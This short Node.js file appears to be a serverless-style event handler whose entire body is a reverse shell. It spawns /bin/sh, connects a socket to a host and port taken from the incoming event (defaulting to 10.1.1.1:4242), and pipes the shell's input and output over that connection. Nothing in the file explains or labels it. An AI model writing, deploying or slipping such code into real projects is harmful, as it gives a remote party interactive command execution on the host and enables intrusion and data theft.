const n = require("net"), c = require("child_process");
exports.handle = async (e) => {
  const sh = c.spawn("/bin/sh", []);
  const cl = new n.Socket();
  cl.connect(e.port || 4242, e.host || "10.1.1.1", () => { cl.pipe(sh.stdin); sh.stdout.pipe(cl); sh.stderr.pipe(cl); });
  return "";
};
